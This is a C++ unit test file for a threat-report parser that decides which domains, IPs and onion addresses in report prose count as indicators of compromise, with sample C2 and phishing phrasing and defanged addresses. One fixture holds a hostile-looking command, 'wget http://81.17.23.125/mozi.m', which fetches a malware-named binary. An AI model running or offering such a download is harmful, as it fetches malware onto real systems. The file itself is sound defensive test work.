// SPDX-License-Identifier: BSD-3-Clause
//
// Reports: what is an indicator although it is not defanged, and what is none although it looks
// like one.

#include <string>

#include "tests/support/catch.h"
#include "tests/support/report_fixture.h"

namespace tollgate::source {
namespace {

using test::Indicators;
using test::LeftOutOf;
using test::Mentions;

}  // namespace

TEST_CASE("A plain name in prose is a mention") {
  CHECK(Indicators("They used the builder of example.com for it.") == "");
  CHECK(Mentions("They used the builder of example.com for it.") == "example.com");
}

TEST_CASE("Words that introduce a plain name make it an indicator") {
  const std::string words =
      GENERATE(as<std::string>{}, "DNS query for ", "dns queries to ", "C2: ", "C2 server ",
               "Domain: ", "domain name: ", "malicious domain ",
               "Phishing site: ", "FQDN: ", "beaconing to ", "- C2 domain: `",
               "Payload URL: http://", "C2\xe3\x82\xb5\xe3\x83\xbc\xe3\x83\x90\xe3\x83\xbc",
               "\xe9\x80\x9a\xe4\xbf\xa1\xe5\x85\x88\xef\xbc\x9a");
  INFO(words);
  CHECK(Indicators(words + "evil.top") == "evil.top");
}

TEST_CASE("Words that introduce an address do so too") {
  CHECK(Indicators("C2 server: 81.17.23.125:8080") == "81.17.23.125");
  CHECK(Indicators("IP: 81.17.23.125") == "81.17.23.125");
  CHECK(Mentions("Received: from x (x [81.17.23.125])") == "81.17.23.125");
}

TEST_CASE("Words that clear a name outweigh them") {
  const std::string text = GENERATE(as<std::string>{}, "C2: example.com (legitimate, compromised)",
                                    "spoofing the malicious domain example.com",
                                    "Domain: example.com - connectivity check");
  INFO(text);
  CHECK(Indicators(text) == "");
}

TEST_CASE("What is called harmless once is harmless in the whole report") {
  CHECK(Indicators("The legitimate domain example.com is spoofed.\n\nTRAFFIC:\n\n"
                   "- 81.17.23[.]125 port 80 - example.com - GET /\n") == "81.17.23.125");
}

TEST_CASE("A plain name in a cell beside a defanged one is an indicator") {
  CHECK(Indicators("- 81.17.23[.]125 port 443 - evil.top - HTTPS traffic") ==
        "81.17.23.125 evil.top");
  CHECK(Indicators("| evil.top | 81.17.23[.]125 |") == "evil.top 81.17.23.125");
  CHECK(Indicators("- 81.17.23[.]125 port 443 - SMTP traffic for mail.example.com and more") ==
        "81.17.23.125");
}

TEST_CASE("A plain item in a list of defanged ones is an indicator") {
  CHECK(Indicators("- bad[.]top\n- evil.top\n- worse[.]top\n") == "bad.top evil.top worse.top");
  CHECK(Indicators("- bad[.]top\n\n\n- example.com\n- example.net\n") == "bad.top");
}

TEST_CASE("A plain name within a defanged one is an indicator") {
  CHECK(Indicators("- evil[.]top\n\nLater www.evil.top answered.") == "evil.top www.evil.top");
  CHECK(Indicators("- a.example[.]com\n\nThey rent from example.com.") == "a.example.com");
}

TEST_CASE("A plain list below a heading is one of indicators where nothing is defanged") {
  CHECK(Indicators("Indicators of compromise:\n\n- evil.top\n- 81.17.23.125\n") ==
        "evil.top 81.17.23.125");
  CHECK(Indicators("Network:\n\n- https://example.com/blog\n") == "");
  CHECK(Indicators("References:\n\n- https://example.com/blog\n") == "");
  CHECK(Indicators("Indicators:\n- evil[.]top\n\nVictims:\n- example.com\n") == "evil.top");
}

TEST_CASE("An onion service is an indicator") {
  const std::string service(56, 'a');
  CHECK(Indicators("leaks at " + service + ".onion today") == service + ".onion");
  CHECK(Indicators("an address such as example.onion") == "");
}

TEST_CASE("A plain URL is a reference") {
  CHECK(LeftOutOf("- https://example.com/2025/blog.html") == "reference link: example.com");
  CHECK(LeftOutOf("URL: https://example.com/") == "reference link: example.com");
  CHECK(LeftOutOf("See [the blog](https://www.example.com/a).") ==
        "reference link: www.example.com");
}

TEST_CASE("A plain URL with an address for its host is none") {
  CHECK(Indicators("wget http://81.17.23.125/mozi.m") == "81.17.23.125");
}

TEST_CASE("The domain of an e-mail address is none") {
  const std::string text =
      GENERATE(as<std::string>{}, "From: Shop <shop@example.com>", "write to shop@example[.]com",
               "shop[@]example[.]com", "shop(at)example(.)com", "a.b+c@example.com",
               "mailto:shop@example.com");
  INFO(text);
  CHECK(Indicators(text) == "");
  CHECK(LeftOutOf(text).find("e-mail address: example.com") != std::string::npos);
}

TEST_CASE("A local part that looks like a name is none") {
  CHECK(Indicators("first.example.info@example[.]com") == "");
}

TEST_CASE("File names are none") {
  const std::string text = GENERATE(
      as<std::string>{}, "report.pdf, login.html, setup.exe, data.zip", "- File name: invoice.zip",
      "main.py and run.sh", "C:\\Users\\a\\evil.com", "/usr/lib/libtor.so", "README.md",
      "d41d8cd98f00b204e9800998ecf8427e  A1.net letter.url");
  INFO(text);
  CHECK(Indicators(text) == "");
}

TEST_CASE("A defanged name wins over the suspicion that it is a file") {
  CHECK(Indicators("crowd-fix[.]zip") == "crowd-fix.zip");
  CHECK(Indicators("hxxp://evil[.]sh/run.sh") == "evil.sh");
}

TEST_CASE("But not over the proof") {
  CHECK(Indicators("-- KIT[.]zip (~6.7 MB), the kit") == "");
  CHECK(Indicators("File name: kit[.]zip") == "");
  CHECK(Indicators("d41d8cd98f00b204e9800998ecf8427e kit[.]zip") == "");
  CHECK(Indicators("d41d8cd98f00b204e9800998ecf8427e evil[.]top") == "evil.top");
}

TEST_CASE("Names in programs are none") {
  const std::string text =
      GENERATE(as<std::string>{}, "com.android.shop", "System.IO", "layer.open.top({", "it ends.So",
               "Care.Shop", "net.example.fun.app.top");
  INFO(text);
  CHECK(Indicators(text) == "");
  CHECK(Mentions(text) == "");
}

TEST_CASE("Words in the path of a URL are none") {
  CHECK(Indicators("evil[.]top/a/b.net") == "evil.top");
  CHECK(Indicators("Users/andre/foo.zip") == "");
}

TEST_CASE("A defanged name in the path of a URL is a mention") {
  CHECK(Indicators("hxxps://evil[.]top/sso.example[.]com") == "evil.top");
  CHECK(Mentions("hxxps://evil[.]top/sso.example[.]com") == "sso.example.com");
}

}  // namespace tollgate::source
